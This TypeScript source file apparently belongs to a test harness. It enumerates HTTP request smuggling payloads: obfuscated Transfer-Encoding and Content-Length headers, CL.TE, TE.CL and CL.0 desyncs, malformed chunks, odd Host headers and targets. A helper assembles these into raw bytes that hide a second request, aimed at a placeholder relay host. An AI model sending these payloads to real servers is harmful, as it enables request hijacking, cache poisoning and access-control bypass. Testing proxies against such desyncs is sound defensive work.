/** Requests in which another one is hidden: bytes that one server reads as a body, and another as the next request. */

const CHUNKED = 'Transfer-Encoding: chunked';

/** A request line and header fields, and a body that ends where some would say that it does. */
export interface Attack {
  readonly name: string;
  /** `{length}` is that of the body with the hidden request. */
  readonly head: string;
  /** Before the hidden request. */
  readonly body?: string;
  readonly isWithoutHost?: boolean;
}

const POST = 'POST /auth/start HTTP/1.1';
const GET = 'GET /health HTTP/1.1';

/** Ways to write Transfer-Encoding that one server obeys and another ignores. */
const TE_FORMS = [
  ...[
    `${CHUNKED}, identity`,
    'Transfer-Encoding: identity, chunked',
    'Transfer-Encoding: x, chunked',
  ],
  ...['Transfer-Encoding: xchunked', 'Transfer-Encoding: chunkedx', 'Transfer-Encoding : chunked'],
  ...['Transfer-Encoding\t: chunked', 'Transfer-Encoding:\tchunked', 'Transfer-Encoding:chunked'],
  ...[
    'Transfer-Encoding: \x0bchunked',
    'Transfer-Encoding: \x0cchunked',
    'Transfer-Encoding: chunked\x0b',
  ],
  ...[
    'Transfer-Encoding: \xa0chunked',
    'Transfer-Encoding: "chunked"',
    "Transfer-Encoding: 'chunked'",
  ],
  ...[
    `X: y\n${CHUNKED}`,
    `X: y\r${CHUNKED}`,
    `X: y\0\r\n${CHUNKED}`,
    ` ${CHUNKED}`,
    `\t${CHUNKED}`,
  ],
  ...['Transfer-Encoding:\r\n chunked', 'Transfer-Encoding: chun\r\n ked', `X: y\r\n ${CHUNKED}`],
  ...[
    'Transfer-Encoding: chunked;q=1',
    'Transfer-Encoding: ,chunked',
    'Transfer-Encoding: chunked,',
  ],
  ...['TRANSFER-ENCODING: CHUNKED', 'Transfer_Encoding: chunked', 'Transfer Encoding: chunked'],
  ...[
    `${CHUNKED}\r\nTransfer-Encoding: x`,
    `Transfer-Encoding: x\r\n${CHUNKED}`,
    `${CHUNKED}\r\n${CHUNKED}`,
  ],
  ...[
    'Transfer-Encoding: gzip, chunked',
    'Transfer-Encoding:',
    'TE: chunked',
    'Content-Encoding: chunked',
  ],
  ...[
    'Transfer-Encoding: chunke\u0064\0',
    'Transfer\x00-Encoding: chunked',
    '\xefTransfer-Encoding: chunked',
  ],
];

const CL_FORMS = [
  ...[
    '+0',
    '-0',
    '0x0',
    '00',
    '0 ',
    '0, 0',
    '0;a',
    '0\t',
    '0\x0b',
    '\x0b0',
    '0\0',
    '0e0',
    '0.0',
    '٠',
    '',
  ],
  ...[
    '18446744073709551616',
    '18446744073709551660',
    '4294967296',
    '0\r\n 4',
    '0, {length}',
    '{length}, 0',
  ],
];

export const ATTACKS: readonly Attack[] = [
  { name: 'CL.TE', head: `${POST}\r\nContent-Length: {length}\r\n${CHUNKED}`, body: '0\r\n\r\n' },
  { name: 'TE.CL', head: `${POST}\r\n${CHUNKED}\r\nContent-Length: 4`, body: '0\r\n\r\n' },
  {
    name: 'HTTP/1.0 with TE',
    head: `POST /auth/start HTTP/1.0\r\n${CHUNKED}\r\nContent-Length: {length}\r\nConnection: keep-alive`,
    body: '0\r\n\r\n',
  },
  ...TE_FORMS.flatMap((form): Attack[] => [
    {
      name: `CL and ${JSON.stringify(form)}`,
      head: `${POST}\r\nContent-Length: {length}\r\n${form}`,
      body: '0\r\n\r\n',
    },
    { name: `${JSON.stringify(form)} alone`, head: `${POST}\r\n${form}`, body: '0\r\n\r\n' },
  ]),
  ...CL_FORMS.flatMap((form): Attack[] => [
    { name: `length ${JSON.stringify(form)}`, head: `${POST}\r\nContent-Length: ${form}` },
    {
      name: `CL.CL with ${JSON.stringify(form)}`,
      head: `${POST}\r\nContent-Length: ${form}\r\nContent-Length: {length}`,
    },
    {
      name: `CL.CL before ${JSON.stringify(form)}`,
      head: `${POST}\r\nContent-Length: {length}\r\nContent-Length: ${form}`,
    },
  ]),
  ...[
    'Content-Length : {length}',
    'Content_Length: {length}',
    ' Content-Length: {length}',
    'X: y\nContent-Length: {length}',
  ].map((form): Attack => ({ name: `${JSON.stringify(form)}`, head: `${POST}\r\n${form}` })),
  // CL.0: a body where a server expects none.
  ...['GET', 'HEAD', 'OPTIONS', 'DELETE', 'TRACE', 'PUT'].flatMap((method): Attack[] =>
    ['/health', '/auth/done', '/nowhere', '/favicon.ico', '/auth/result', '/auth/../health'].map(
      (path) => ({
        name: `CL.0 by ${method} ${path}`,
        head: `${method} ${path} HTTP/1.1\r\nContent-Length: {length}`,
      }),
    ),
  ),
  { name: 'GET with chunks', head: `${GET}\r\n${CHUNKED}`, body: '0\r\n\r\n' },
  { name: 'Expect', head: `${POST}\r\nExpect: 100-continue\r\nContent-Length: {length}` },
  {
    name: 'an unknown Expect',
    head: `${POST}\r\nExpect: x 100-continue\r\nContent-Length: {length}`,
  },
  // Framing by a header that the proxy removes.
  ...[
    'Content-Length',
    'Transfer-Encoding',
    'Host',
    'close, Content-Length',
    'X-Forwarded-For',
  ].map(
    (name): Attack => ({
      name: `Connection: ${name}`,
      head: `${POST}\r\nConnection: ${name}\r\nContent-Length: {length}`,
    }),
  ),
  {
    name: 'upgrade to h2c',
    head: `${GET}\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\nContent-Length: {length}`,
  },
  {
    name: 'upgrade to a WebSocket',
    head: `${GET}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nContent-Length: {length}`,
  },
  {
    name: 'upgrade of a WebSocket version that fails',
    head: `${GET}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 777\r\nContent-Length: {length}`,
  },
  // Chunks.
  ...[
    '0;\n\r\n\r\n',
    '0;a=b\nc\r\n\r\n',
    '0\n\n',
    '0\r\r\n',
    '0 \r\n\r\n',
    '00000000000000000\r\n\r\n',
    '0x0\r\n\r\n',
    '-0\r\n\r\n',
    '0_0\r\n\r\n',
    '100000000000000000\r\n\r\n',
    '1\r\nZ\n0\r\n\r\n',
    '1\r\nZZ0\r\n\r\n',
    '0\r\nX: y\r\n\r\n',
    '0\r\nContent-Length: 99\r\n\r\n',
    '0\r\nHost: x\n\r\n',
    '0\r\n\r',
    '0\r\n\n',
    '\r\n0\r\n\r\n',
    '0;a="\r\n\r\n',
  ].map(
    (body): Attack => ({
      name: `chunk ${JSON.stringify(body)}`,
      head: `${POST}\r\n${CHUNKED}`,
      body,
    }),
  ),
  // Targets and hosts.
  ...[
    'http://evil.test/health',
    'http://evil.test',
    '//evil.test/health',
    '*',
    '/health HTTP/1.1 x',
    '/hea lth',
    '/health\tHTTP/1.1',
    '/%0d%0ahealth',
    '/health#x',
    '\\health',
    '/health?\x01',
  ].map(
    (target): Attack => ({
      name: `target ${JSON.stringify(target)}`,
      head: `GET ${target} HTTP/1.1\r\nContent-Length: {length}`,
    }),
  ),
  ...[
    'Host: a\r\nHost: b',
    ' Host: a',
    'Host : a',
    'Host: a\r\n b',
    'Host: a, b',
    'Host: a@b',
    'Host:',
    'Host: a\x00',
  ].map(
    (host): Attack => ({
      name: `${JSON.stringify(host)}`,
      head: `${GET}\r\n${host}\r\nContent-Length: {length}`,
      isWithoutHost: true,
    }),
  ),
  ...['HTTP/0.9', 'HTTP/1.2', 'HTTP/2.0', 'HTTP/1.10', 'http/1.1', 'HTTP/1.1 ', ''].map(
    (version): Attack => ({
      name: `version ${JSON.stringify(version)}`,
      head: `GET /health ${version}\r\nContent-Length: {length}`,
    }),
  ),
  { name: 'an empty line first', head: `\r\n\r\n${GET}\r\nContent-Length: {length}` },
  { name: 'lines that end in LF', head: `${GET}\nContent-Length: {length}\nX: y` },
  { name: 'lines that end in CR', head: `${GET}\rContent-Length: {length}\rX: y` },
];

/** The bytes of an attack that hides this request. */
export function bytesOf({ head, body = '', isWithoutHost }: Attack, hidden: string): string {
  const length = String(body.length + hidden.length);
  const [line = '', ...fields] = head.split(/(?<=^\s*\S[^\r\n]*)(?=[\r\n])/);
  const host = isWithoutHost ? '' : '\r\nHost: relay.example';
  return `${line}${host}${fields.join('')}\r\n\r\n${body}${hidden}`.replaceAll('{length}', length);
}
